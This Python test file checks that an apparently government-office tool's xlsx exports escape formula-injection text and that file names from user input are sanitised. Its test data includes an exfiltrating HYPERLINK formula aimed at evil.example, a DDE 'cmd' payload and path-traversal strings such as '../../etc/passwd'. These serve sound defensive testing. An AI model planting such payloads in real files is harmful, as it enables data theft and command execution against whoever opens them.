"""Every xlsx export neutralises text a spreadsheet would run (= + - @, tab, CR first), and file names built
from user text are safe on Windows and Linux."""

from __future__ import annotations

from locations import ROOT

import datetime as dt
import json
from pathlib import Path

import openpyxl
import pytest

from gwdesk.io.xlsx_safe import safe_cell, safe_filename

ROOT = ROOT
TASKS = ROOT / "tests/fixtures/tasks"
EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _evil(i: int) -> str:
    return EVIL[i % len(EVIL)]


def assert_neutral(path: Path, must_contain: int = 3) -> None:
    """No formula cell and no text cell a spreadsheet would evaluate; and the evil texts did get in."""
    wb = openpyxl.load_workbook(path)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert not c.value.startswith(DANGEROUS), f"{ws.title}!{c.coordinate}: {c.value!r}"
                    seen += any(e in c.value for e in EVIL)
    assert seen >= must_contain, f"only {seen} hostile texts reached {path.name}: the test put too few in"


def test_safe_cell_rules():
    for e in EVIL:
        assert safe_cell(e) == "'" + e
    assert safe_cell("关于=的说明") == "关于=的说明" and safe_cell(12) == 12 and safe_cell(None) is None


def test_task_ledger_export(ctx, profile, tmp_path):
    from gwdesk.core.tasks import export, service, tracking
    from gwdesk.io import tasklist
    from gwdesk.io.tasklist.ledger import write_ledger
    from gwdesk.store.tasks_models import Task, TaskList
    result = service.import_parsed(tasklist.read(TASKS / "lp2021.xlsx"), profile=profile)
    TaskList.update(title=_evil(0), issuer=_evil(1), file_name=_evil(2) + ".xlsx").execute()
    for i, t in enumerate(Task.select().order_by(Task.id).limit(6)):
        Task.update(task=_evil(i), measure=_evil(i + 1), note=_evil(i + 2), publish_path=_evil(i + 3),
                    lead_units=[_evil(i + 4)], resp_units=[_evil(i + 5)], seq=_evil(i + 6),
                    category=_evil(i), deadline_text=_evil(i + 1), role_override="牵头").where(Task.id == t.id).execute()
        tracking.add_note(t.id, _evil(i + 3), noted_on=ctx.today(), today=ctx.today())
        tracking.add_portal_path(t.id, _evil(i + 4))
    data = export.ledger_data(result.list_id, today=ctx.today(), unit_name=_evil(5))
    out = write_ledger(tmp_path / "台账.xlsx", data)
    assert_neutral(out, must_contain=30)


def test_application_ledger_export(ctx, tmp_path):
    from gwdesk.io import ledger_xlsx
    from gwdesk.store.applications_models import Application
    for i in range(7):
        Application.create(number=_evil(i) + str(i), received=dt.date(2026, 3, 1 + i), channel="网络",
                           applicant_type="自然人" if i % 2 else "商业企业", applicant_name=_evil(i + 1),
                           id_kind="", id_number=_evil(i + 2), contact=_evil(i + 3), content=_evil(i + 4),
                           delivery=_evil(i + 5), closed=dt.date(2026, 4, 1), outcome="3.1",
                           reply_number=_evil(i + 6), reason=_evil(i), note=_evil(i + 1), updated_at="2026-04-01")
    for reveal in (False, True):
        out = tmp_path / f"ledger-{reveal}.xlsx"
        ledger_xlsx.export_ledger(out, ctx.today(), reveal=reveal)
        assert_neutral(out, must_contain=40 if reveal else 30)  # de-identified: phone-like evil texts masked


def test_review_registers_export(ctx, tmp_path):
    from gwdesk.core.review import forms, registers
    from gwdesk.io import review_registers
    from gwdesk.store.review_models import ReviewForm
    for i, attr in enumerate(["主动公开", "不予公开", "删减后公开", "依申请公开"] * 2):
        values = {"title": _evil(i), "doc_number": _evil(i + 1), "dept": _evil(i + 2), "attribute": attr,
                  "channels": ["其他"], "other_channel": _evil(i + 3), "column": _evil(i + 4), "url": _evil(i + 5),
                  "interp_title": _evil(i + 6), "withheld_content": _evil(i), "reasons": ["other"],
                  "other_basis": _evil(i + 1)}
        f = forms.create(ctx, values, year=2026)
        data = json.dumps({"values": dict(values, number=f.number), "signoffs": {}}, ensure_ascii=False)
        ReviewForm.update(status="已公开", data=data, title=_evil(i), doc_number=_evil(i + 1), dept=_evil(i + 2),
                          attribute=attr).where(ReviewForm.id == f.id).execute()
    out = review_registers.write_registers(registers.gather(2026, unit=_evil(3)), tmp_path / "registers.xlsx")
    assert_neutral(out, must_contain=30)


def test_report_rollup_export(tmp_path):
    from gwdesk.io import report_rollup as rollup
    from gwdesk.io import report_json
    src = json.loads((ROOT / "tests/fixtures/report/qc_minzheng_2025.json").read_text(encoding="utf-8"))
    folder = tmp_path / "reports"
    folder.mkdir()
    for i in range(4):
        d = dict(src, unit=_evil(i))
        (folder / f"{safe_filename(_evil(i + 1))}{i}.json").write_text(json.dumps(d, ensure_ascii=False), "utf-8")
    (folder / "broken.json").write_text('{"schema": "gwdesk.annual-report/1", "year": "=1+1"', "utf-8")
    r = rollup.collect([folder], expected={_evil(5): "县级部门"})
    out = rollup.export_xlsx(r, tmp_path / "汇总.xlsx")
    assert_neutral(out, must_contain=4)
    assert report_json  # the reader used by collect


# ---- file names --------------------------------------------------------------------------------

WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10)), *(f"LPT{i}" for i in range(1, 10))}


@pytest.mark.parametrize("name", ["../../etc/passwd", "..\\..\\Windows\\win.ini", 'a/b\\c:d*e?f"g<h>i|j',
                                  "\x00\x1f名称", " . ", "...", "", "青川县民政局" * 40, "CON", "nul.xlsx", "com1",
                                  "LPT9.pdf", "报告. ", "=1+1", "\u202e反向xlsx.exe"])
def test_file_names_from_user_text_are_safe(name):
    out = safe_filename(name)
    assert out and len(out) <= 120
    assert not any(ch in out for ch in '\\/:*?"<>|') and all(ord(ch) >= 32 for ch in out)
    assert out not in (".", "..") and not out.endswith((" ", "."))
    assert out.split(".")[0].upper() not in WINDOWS_RESERVED, out
    assert "\u202e" not in out  # no right-to-left override hiding the real extension


def test_long_names_keep_their_extension():
    assert safe_filename("青川县民政局" * 40 + "落实台账.xlsx").endswith("落实台账.xlsx"[-5:])
    assert len(safe_filename("青川县民政局" * 40 + ".pdf")) == 120
    assert safe_filename(".xlsx") == "xlsx" and safe_filename("报告.") == "报告"


def test_evidence_file_names_stay_inside_the_evidence_folder(ctx, profile, tmp_path):
    from gwdesk import paths
    from gwdesk.core.tasks import service, tracking
    from gwdesk.io import tasklist
    from gwdesk.store.tasks_models import Task
    service.import_parsed(tasklist.read(TASKS / "lp2021.xlsx"), profile=profile)
    task = Task.select().first()
    odd = tmp_path / "..%2f..%2fCON.txt"
    odd.write_text("佐证", encoding="utf-8")
    ev = tracking.add_file(task.id, odd)
    stored = tracking.evidence_file(ev).resolve()
    assert stored.is_relative_to(paths.evidence_dir().resolve()) and stored.is_file()
